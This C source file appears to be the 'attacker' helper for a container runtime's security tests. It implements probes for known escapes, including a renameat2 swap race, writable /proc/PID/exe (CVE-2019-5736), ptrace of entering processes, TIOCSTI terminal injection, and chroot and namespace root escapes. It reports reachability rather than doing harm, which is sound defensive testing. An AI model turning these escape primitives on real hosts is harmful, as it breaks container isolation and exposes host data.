// What a hostile program in a container does: a static program for the attack tests. It opens for writing and does not
// write, and prints what it could reach. Usage: attacker ACTION [ARGUMENT]...
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <poll.h>
#include <pty.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

static int is_number(const char *text) { return *text && strspn(text, "0123456789") == strlen(text); }

// Exchanges two names again and again: CVE-2021-30465. Ends after so many seconds, or when it is killed.
static int swap(char **names) {
  double end = now() + atof(names[2]);
  while (now() < end)
    for (int i = 0; i < 1000; i++) syscall(SYS_renameat2, AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE);
  return 0;
}

// Whether a path opens for writing.
static int open_for_writing(char **paths) {
  for (; *paths; paths++) {
    int file = open(*paths, O_WRONLY | O_CLOEXEC);
    printf("%s %s\n", *paths, file >= 0 ? "opened" : strerror(errno));
    if (file >= 0) close(file);
  }
  return 0;
}

// Opens the program of every process that appears and is not one of the container's, and then, while it ends, for
// writing: CVE-2019-5736. Says "ready" once it looks.
static int hunt_program(double seconds, const char *own) {
  struct stat mine;
  stat(own, &mine);
  double end = now() + seconds;
  int held = -1;
  printf("ready\n");
  fflush(stdout);
  while (now() < end) {
    if (held < 0) {
      DIR *list = opendir("/proc");
      for (struct dirent *entry; list && held < 0 && (entry = readdir(list));) {
        char path[64];
        struct stat found;
        if (!is_number(entry->d_name)) continue;
        snprintf(path, sizeof path, "/proc/%d/exe", atoi(entry->d_name));
        if (stat(path, &found) || (found.st_dev == mine.st_dev && found.st_ino == mine.st_ino)) continue;
        char target[4096] = "";
        if (readlink(path, target, sizeof target - 1) > 0 && !strncmp(target, "/bin/", 5)) continue;
        held = open(path, O_RDONLY | O_CLOEXEC);
        if (held >= 0) printf("holds %s\n", target), fflush(stdout);
      }
      if (list) closedir(list);
    } else {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held);
      int file = open(path, O_WRONLY | O_CLOEXEC);
      if (file >= 0) {
        printf("WRITABLE\n");
        return 0;
      }
    }
  }
  printf("nothing\n");
  return 0;
}

// Looks into every process that enters while it still is the runtime: traces it, opens its memory and its descriptors:
// CVE-2016-9962.
static int hunt_process(double seconds) {
  double end = now() + seconds;
  int seen = 0;
  printf("ready\n");
  fflush(stdout);
  while (now() < end) {
    DIR *list = opendir("/proc");
    for (struct dirent *entry; list && (entry = readdir(list));) {
      if (!is_number(entry->d_name)) continue;
      int pid = atoi(entry->d_name);
      if (pid <= getpid()) continue;
      char path[64], target[4096] = "";
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      ssize_t length = readlink(path, target, sizeof target - 1);
      // Once it is a program of the container's, it is fair game.
      if (length > 0 && !strncmp(target, "/bin/", 5)) continue;
      seen++;
      snprintf(path, sizeof path, "/proc/%d/mem", pid);
      int memory = open(path, O_RDONLY | O_CLOEXEC);
      snprintf(path, sizeof path, "/proc/%d/fd", pid);
      DIR *list_of_descriptors = opendir(path);
      int descriptors = 0;
      // To list the numbers takes no right; to see what one names does.
      for (struct dirent *one; list_of_descriptors && (one = readdir(list_of_descriptors));)
        if (is_number(one->d_name)) descriptors |= readlinkat(dirfd(list_of_descriptors), one->d_name, target, sizeof target - 1) > 0;
      long traced = ptrace(PTRACE_SEIZE, pid, 0, 0);
      length = readlink((snprintf(path, sizeof path, "/proc/%d/exe", pid), path), target, sizeof target - 1);
      if ((memory >= 0 || descriptors || traced == 0) && length > 0 && strncmp(target, "/bin/", 5)) {
        // Its program can be asked for, so it has not just ended, and is still not the container's.
        target[length] = 0;
        printf("TRACED %d (%s): memory %d descriptors %d ptrace %ld\n", pid, target, memory, descriptors, traced);
        fflush(stdout);
      }
      if (traced == 0) ptrace(PTRACE_DETACH, pid, 0, 0), kill(pid, SIGCONT);
      if (memory >= 0) close(memory);
      if (list_of_descriptors) closedir(list_of_descriptors);
    }
    if (list) closedir(list);
  }
  printf("seen %d\n", seen);
  return 0;
}

// Every open descriptor above 2 with what it names, and the raw working directory.
static int descriptors(void) {
  char path[4096] = "", target[4096];
  for (int number = 3; number < 1024; number++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", number);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0) continue;
    target[length] = 0;
    printf("LEAK %d %s\n", number, target);
  }
  long length = syscall(SYS_getcwd, path, sizeof path);
  printf("cwd %s\n", length > 0 ? path : strerror(errno));
  return 0;
}

// The session keyring's number and whether a key of the host's can be found in it.
static int keyring(const char *key) {
  long ring = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3, 0);
  long found = syscall(SYS_keyctl, 10 /* SEARCH */, -3, "user", key, 0);
  printf("ring %ld %s\n", ring, found >= 0 ? "FOUND" : strerror(errno));
  return 0;
}

// Makes a session keyring with a key in it and runs a command there.
static int with_key(char **words) {
  syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, 0);
  if (syscall(SYS_add_key, "user", words[0], "canary", 6, -3) < 0) return perror("add_key"), 1;
  execvp(words[1], words + 1);
  return perror(words[1]), 1;
}

// Makes a session keyring of a name, open to all of the same user, with a key in it, and keeps it.
static int named_ring(const char *name) {
  long ring = syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, name);
  if (ring < 0 || syscall(SYS_keyctl, 5 /* SETPERM */, ring, 0x3f3f3f3f)) return perror("keyctl"), 1;
  long key = syscall(SYS_add_key, "user", "brig-planted", "canary", 6, -3);
  syscall(SYS_keyctl, 5, key, 0x3f3f3f3f);
  printf("ready\n");
  fflush(stdout);
  for (;;) pause();
  return 0;
}

// Types into the terminal of whoever started us, and tries to take it over: CVE-2016-7545 and its kin.
static int type(void) {
  char letter = 'X';
  printf("TIOCSTI %s\n", ioctl(0, TIOCSTI, &letter) ? strerror(errno) : "TYPED");
  printf("TIOCSCTTY %s\n", ioctl(0, TIOCSCTTY, 1) ? strerror(errno) : "TAKEN");
  printf("/dev/tty %s\n", open("/dev/tty", O_RDWR) < 0 ? strerror(errno) : "OPENED");
  return 0;
}

// Runs a command on a terminal of its own as a shell would, and passes on what appears there.
static int on_terminal(char **words) {
  int terminal;
  pid_t child = forkpty(&terminal, 0, 0, 0);
  if (child == 0) {
    execvp(words[0], words);
    _exit(127);
  }
  char part[4096];
  for (ssize_t length; (length = read(terminal, part, sizeof part)) > 0;) fwrite(part, 1, length, stdout);
  int status = 0;
  waitpid(child, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

// Listens as an engine does for a console's controller, says "ready", and keeps it open.
static int console(const char *path, double seconds) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
  int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (bind(listener, (struct sockaddr *)&address, sizeof address) || listen(listener, 1)) return perror(path), 1;
  struct pollfd wait = {listener, POLLIN, 0};
  if (poll(&wait, 1, seconds * 1000) != 1) return 1;
  int line = accept(listener, 0, 0);
  char data[4096], control[256];
  struct iovec part = {data, sizeof data};
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  recvmsg(line, &message, MSG_CMSG_CLOEXEC);
  sleep((unsigned)seconds);
  return 0;
}

// Runs a command with descriptor 9 on a directory of the host's, not closed on exec.
static int leaking(char **words) {
  int directory = open(words[0], O_RDONLY | O_DIRECTORY);
  dup2(directory, 9);
  dup2(directory, 15);
  execvp(words[1], words + 1);
  return perror(words[1]), 1;
}

// What a path names, a link not followed: type and device number.
static int kind(char **paths) {
  for (; *paths; paths++) {
    struct stat status;
    if (lstat(*paths, &status)) printf("%s %s\n", *paths, strerror(errno));
    else
      printf("%s %o %u:%u %lld\n", *paths, status.st_mode & S_IFMT, major(status.st_rdev), minor(status.st_rdev),
             (long long)status.st_size);
  }
  return 0;
}

// Names itself so that who prints the name raw acts on a terminal, and waits.
static int strange_name(void) {
  prctl(PR_SET_NAME, "\033]0;evil\007\nx");
  for (;;) pause();
  return 0;
}

static void show(const char *path, const char *way) {
  char text[64] = "";
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file >= 0 && read(file, text, sizeof text - 1) > 0) printf("%s: %s\n", way, text);
  if (file >= 0) close(file);
}

// Tries to leave a root that was changed by chroot(2) alone, and reads a file of the host's there.
static int leave_root(const char *path) {
  int own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
  if (own < 0) return perror("ns/mnt"), 1;
  show(path, "at once");
  if (fork() == 0) {
    // The working directory stays outside of the new root, so `..` is not stopped there.
    mkdir("/tmp/inner", 0755);
    if (chroot("/tmp/inner")) perror("chroot");
    for (int i = 0; i < 64; i++)
      if (chdir("..")) break;
    if (chroot(".")) perror("chroot .");
    show(path, "by chroot");
    fflush(0);
    _exit(0);
  }
  wait(0);
  if (fork() == 0) {
    if (setns(own, CLONE_NEWNS)) perror("setns");
    show(path, "by setns");
    fflush(0);
    _exit(0);
  }
  wait(0);
  if (fork() == 0) {
    // In a user namespace of its own it would have the right to mount, in a copy of the namespace that it is in.
    if (unshare(CLONE_NEWUSER)) perror("user namespace");
    if (unshare(CLONE_NEWNS)) perror("mount namespace");
    int made = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (setns(made, CLONE_NEWNS)) perror("setns");
    show(path, "by a user namespace");
    fflush(0);
    _exit(0);
  }
  wait(0);
  return 0;
}

int main(int count, char **words) {
  const char *action = count > 1 ? words[1] : "";
  char **rest = words + 2;
  signal(SIGTERM, SIG_DFL);
  if (!strcmp(action, "swap") && count > 4) return swap(rest);
  if (!strcmp(action, "open") && count > 2) return open_for_writing(rest);
  if (!strcmp(action, "hunt-program") && count > 2) return hunt_program(atof(words[2]), "/proc/self/exe");
  if (!strcmp(action, "hunt-process") && count > 2) return hunt_process(atof(words[2]));
  if (!strcmp(action, "descriptors")) return descriptors();
  if (!strcmp(action, "keyring") && count > 2) return keyring(words[2]);
  if (!strcmp(action, "with-key") && count > 3) return with_key(rest);
  if (!strcmp(action, "named-ring") && count > 2) return named_ring(words[2]);
  if (!strcmp(action, "type")) return type();
  if (!strcmp(action, "on-terminal") && count > 2) return on_terminal(rest);
  if (!strcmp(action, "console") && count > 3) return console(words[2], atof(words[3]));
  if (!strcmp(action, "leaking") && count > 3) return leaking(rest);
  if (!strcmp(action, "kind") && count > 2) return kind(rest);
  if (!strcmp(action, "leave-root") && count > 2) return leave_root(words[2]);
  if (!strcmp(action, "strange-name")) return strange_name();
  if (!strcmp(action, "pause")) for (;;) pause();
  return 2;
}
